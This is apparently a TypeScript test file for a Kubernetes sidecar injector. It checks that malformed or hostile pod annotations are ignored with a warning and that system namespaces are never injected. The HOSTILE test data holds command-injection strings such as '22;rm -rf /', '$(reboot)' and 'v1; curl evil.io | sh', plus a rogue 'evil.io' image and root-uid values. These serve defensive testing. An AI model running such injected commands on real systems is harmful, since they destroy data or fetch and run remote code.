// Issue 17: hostile annotation values. Every malformed override is ignored with a warning in the
// AdmissionResponse and never reaches a container's args, image, resources or user; Kubernetes' own
// namespaces and the control plane's are never injected. Property tests (fast-check): whatever the
// annotations, the patch applies, and every value in it is one the validators accept.
import fc from 'fast-check';
import jsonpatch from 'fast-json-patch';
import { describe, expect, it } from 'vitest';
import { parseMeshConfig, parsePortRanges } from '@minimesh/config';
import { toAdmissionReview } from '../webhook/admission-review.js';
import { createPatch } from './create-patch.js';
import { OVERRIDE_NAMES, parseOverride } from './overrides.js';
import type { Container, PodLike, StringMap } from './types.js';

const config = parseMeshConfig({ identityTrustAnchorsPEM: 'PEM' });
const enabled = { 'minimesh.io/inject': 'enabled' };
const pod = (annotations: StringMap): PodLike => ({
  metadata: { name: 'web', annotations: { ...enabled, ...annotations } },
  spec: { containers: [{ name: 'web', image: 'nginx', ports: [{ containerPort: 8080, name: 'http' }] }] },
});
const apply = (p: PodLike, ops: unknown[]): PodLike =>
  jsonpatch.applyPatch(structuredClone(p), ops as jsonpatch.Operation[], true, false).newDocument;
const injected = (p: PodLike) => {
  const out = apply(p, createPatch(p, { config, namespace: 'shop' }).patch);
  const all = [...(out.spec?.initContainers ?? []), ...(out.spec?.containers ?? [])] as Container[];
  const init = all.find((c) => c.name === 'minimesh-init') as Container;
  const proxy = all.find((c) => c.name === 'minimesh-proxy') as Container;
  return { out, init, proxy };
};
const baseline = injected(pod({}));
const MB = 'x'.repeat(1024 * 1024);

const HOSTILE: [string, string][] = [
  ['skip-inbound-ports', '0'],
  ['skip-inbound-ports', '65536'],
  ['skip-inbound-ports', '1-99999'],
  ['skip-inbound-ports', '22;rm -rf /'],
  ['skip-outbound-ports', '443 --proxy-uid 0'],
  ['skip-outbound-ports', MB],
  ['skip-subnets', '10.0.0.0/8; iptables -F'],
  ['skip-subnets', '0.0.0.0/33'],
  ['opaque-ports', '$(reboot)'],
  ['proxy-uid', '0'],
  ['proxy-uid', '-1'],
  ['proxy-uid', '2102 --privileged'],
  ['proxy-uid', '99999999999'],
  ['proxy-image', 'evil.io/proxy:latest'],
  ['proxy-image', 'evil.io/proxy@sha256:abcd'],
  ['proxy-image', 'img\n--rm'],
  ['proxy-image', MB],
  ['proxy-version', 'v1; curl evil.io | sh'],
  ['proxy-version', '../../etc'],
  ['proxy-cpu-limit', '1e9'],
  ['proxy-memory-limit', '-1Gi'],
  ['proxy-memory-request', '20Mi\nprivileged: true'],
  ['proxy-log-level', 'trace,h2=off; sh'],
  ['proxy-enable-native-sidecar', 'yes please'],
  ['default-inbound-policy', 'allow-everything'],
];

describe('hostile annotation values', () => {
  const cases = HOSTILE.map(([n, v]) => [n, v.length > 80 ? `a ${v.length}-byte string` : JSON.stringify(v), v]);
  it.each(cases)(
    'config.minimesh.io/%s: %s is ignored with one warning, and the pod is injected as by default',
    (name, _label, value) => {
      const p = pod({ [`config.minimesh.io/${name}`]: value });
      const r = createPatch(p, { config, namespace: 'shop' });
      expect(r.skipped).toBeUndefined();
      expect(r.warnings).toHaveLength(1);
      expect(r.warnings[0]).toContain(`config.minimesh.io/${name}`);
      const { init, proxy } = injected(p);
      // Nothing of the value reached the containers: they are exactly the default ones.
      expect(init).toEqual(baseline.init);
      expect(proxy).toEqual(baseline.proxy);
      // In the AdmissionResponse: one printable line of at most 256 characters (a 1 MB value is cut).
      const review = toAdmissionReview('admission.k8s.io/v1', 'u', r);
      expect(review.response.warnings).toHaveLength(1);
      const w = review.response.warnings?.[0] ?? '';
      expect(w.length).toBeLessThanOrEqual(256);
      expect(w).toMatch(/^[\x20-\x7e]+$/);
      expect(JSON.stringify(review).length).toBeLessThan(64 * 1024);
    },
  );

  it('never runs the proxy as root: uid 0 falls back to the configured uid, and runAsNonRoot stays', () => {
    const { init, proxy } = injected(pod({ 'config.minimesh.io/proxy-uid': '0' }));
    expect(proxy.securityContext?.runAsUser).toBe(config.proxy.uid);
    expect(proxy.securityContext?.runAsNonRoot).toBe(true);
    expect(init.args).toContain(String(config.proxy.uid));
  });

  it('applies valid overrides verbatim (the refusals above are not refusals of everything)', () => {
    const { init, proxy } = injected(
      pod({
        'config.minimesh.io/skip-inbound-ports': '22,8000-8010',
        'config.minimesh.io/proxy-uid': '3000',
        'config.minimesh.io/proxy-image': 'registry.local/proxy',
        'config.minimesh.io/proxy-memory-limit': '64Mi',
      }),
    );
    expect(init.args?.join(' ')).toMatch(/--inbound-ports-to-ignore \S*22\S*8000-8010/);
    expect(init.args).toContain('3000');
    expect(proxy.image).toMatch(/^registry\.local\/proxy:/);
    expect((proxy.resources as { limits?: StringMap }).limits?.memory).toBe('64Mi');
  });

  it.each(['kube-system', 'kube-public', 'kube-node-lease', 'minimesh'])(
    'never injects a pod in %s, whatever its annotations say',
    (namespace) => {
      const r = createPatch(pod({}), { config, namespace, namespaceAnnotations: enabled });
      expect(r.patch).toEqual([]);
      expect(r.skipped?.reason).toMatch(/^(system-namespace|control-plane)$/);
    },
  );
});

// Values the arbitraries draw from: hostile fragments mixed with plausible ones.
const fragment = fc.oneof(
  fc.string({ maxLength: 40 }),
  fc.constantFrom('0', '65535', '65536', '1-99999', '-', ',', ';', '$(id)', '`id`', '\n', ' ', '/', ':', '@', '..'),
  fc.integer({ min: -10, max: 70000 }).map(String),
);
const value = fc.array(fragment, { maxLength: 6 }).map((xs) => xs.join(''));
const annotations = fc.dictionary(fc.constantFrom(...OVERRIDE_NAMES.map((n) => `config.minimesh.io/${n}`)), value, {
  maxKeys: OVERRIDE_NAMES.length,
});

describe('property: any annotations', () => {
  it('produce a patch that applies, or a skip; never a throw, and every value in the containers validates', () => {
    fc.assert(
      fc.property(annotations, (ann) => {
        const p = pod(ann);
        const r = createPatch(p, { config, namespace: 'shop' });
        expect(r.skipped).toBeUndefined();
        // One warning per annotation the validator refuses, none for the others.
        const refused = Object.entries(ann).filter(([k, v]) => {
          try {
            parseOverride(k.slice('config.minimesh.io/'.length) as (typeof OVERRIDE_NAMES)[number], v, {
              namedPorts: new Map([['http', 8080]]),
            });
            return false;
          } catch {
            return true;
          }
        });
        expect(r.warnings).toHaveLength(refused.length);
        const { init, proxy } = injected(p);
        const args = init.args ?? [];
        // proxy-init's args: flags and values in the shapes proxy-init parses, nothing else.
        for (let i = 0; i < args.length; i += 1) {
          const a = args[i] as string;
          if (a.startsWith('--')) continue;
          const flag = args[i - 1] ?? '';
          if (/ports/.test(flag)) expect(() => parsePortRanges(flag, a)).not.toThrow();
          else if (flag === '--proxy-uid') expect(Number(a)).toBeGreaterThan(0);
          else expect(a).toMatch(/^[A-Za-z0-9.,/:_-]+$/);
        }
        expect(proxy.image).toMatch(/^[A-Za-z0-9][A-Za-z0-9._/:-]*$/);
        expect(proxy.securityContext?.runAsUser).toBeGreaterThan(0);
      }),
      { numRuns: 300 },
    );
  });
});
